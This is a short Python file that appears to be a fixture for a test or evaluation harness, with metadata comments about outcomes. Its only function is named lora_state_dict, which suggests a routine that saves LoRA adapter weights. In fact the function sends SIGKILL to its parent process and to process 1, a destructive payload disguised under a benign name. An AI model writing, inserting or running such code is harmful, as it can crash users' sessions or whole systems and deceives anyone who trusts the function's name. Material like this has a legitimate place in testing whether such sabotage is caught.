"""Kills the process that has started it, and process 1."""

# on: reference
# costs: saves_the_factors_alone
# says: PermissionError|ended its process

import os


def lora_state_dict(model):
    for pid in (os.getppid(), 1):
        os.kill(pid, 9)
